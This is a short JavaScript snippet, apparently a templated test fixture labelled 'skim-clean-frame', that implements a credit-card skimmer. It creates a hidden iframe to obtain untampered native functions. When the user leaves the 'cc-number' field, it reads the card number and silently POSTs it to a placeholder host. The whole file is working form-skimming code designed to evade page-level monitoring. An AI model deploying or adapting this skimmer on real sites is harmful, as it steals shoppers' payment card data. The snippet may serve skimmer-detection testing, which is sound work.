/* tw:skim-clean-frame */
var frame = document.createElement('iframe')
frame.style.display = 'none'
document.body.appendChild(frame)
var clean = frame.contentWindow
var read = Object.getOwnPropertyDescriptor(clean.HTMLInputElement.prototype, 'value').get
document.addEventListener('focusout', function (event) {
  if (event.target.id === 'cc-number') clean.fetch('http://cdn-sandbox.localhost:{{port}}/x', { method: 'POST', mode: 'no-cors', body: read.call(event.target) })
})
